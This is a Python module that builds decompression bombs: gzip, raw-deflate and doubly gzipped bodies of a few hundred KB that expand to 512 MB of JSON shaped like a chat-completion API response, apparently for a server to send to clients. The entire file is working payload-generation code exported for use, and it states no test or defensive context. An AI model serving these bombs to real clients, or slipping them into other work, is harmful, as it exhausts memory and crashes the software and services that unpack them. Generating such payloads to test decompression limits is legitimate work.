"""Bodies that are small on the wire and huge once unpacked. Made of repeated blocks, so they cost the server nothing."""

from __future__ import annotations

import functools
import zlib

__all__ = ["deflate_bomb", "gzip_bomb", "nested_bomb"]

_BLOCK = 1024 * 1024
_BLOCKS = 512


def _squeezed(engine: zlib._Compress, start: bytes, fill: bytes, end: bytes) -> bytes:
    """Compress start, 512 MB of fill and end; the block in the middle is compressed once and repeated."""
    begin = engine.compress(start) + engine.flush(
        zlib.Z_FULL_FLUSH
    )  # a full flush: what follows needs nothing before it
    block = engine.compress(fill * _BLOCK) + engine.flush(zlib.Z_FULL_FLUSH)
    return begin + block * _BLOCKS + engine.compress(end) + engine.flush(zlib.Z_FINISH)


@functools.cache
def gzip_bomb(start: bytes = b'{"choices": [{"message": {"content": "', end: bytes = b'"}}]}') -> bytes:
    """Return a valid gzip of 512 MB of JSON, 512 KB long."""
    raw = _squeezed(zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS), start, b"a", end)
    checksum = zlib.crc32(start)
    for _ in range(_BLOCKS):
        checksum = zlib.crc32(b"a" * _BLOCK, checksum)
    checksum = zlib.crc32(end, checksum)
    size = (len(start) + _BLOCK * _BLOCKS + len(end)) & 0xFFFFFFFF
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + raw + checksum.to_bytes(4, "little") + size.to_bytes(4, "little")


@functools.cache
def deflate_bomb() -> bytes:
    """Return 512 MB of JSON as raw deflate, 512 KB long, which many servers send under that name."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return _squeezed(engine, b'{"choices": [{"message": {"content": "', b"a", b'"}}]}')


@functools.cache
def nested_bomb() -> bytes:
    """Return a gzip of a gzip bomb, a few KB long."""
    engine = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return engine.compress(gzip_bomb()) + engine.flush()
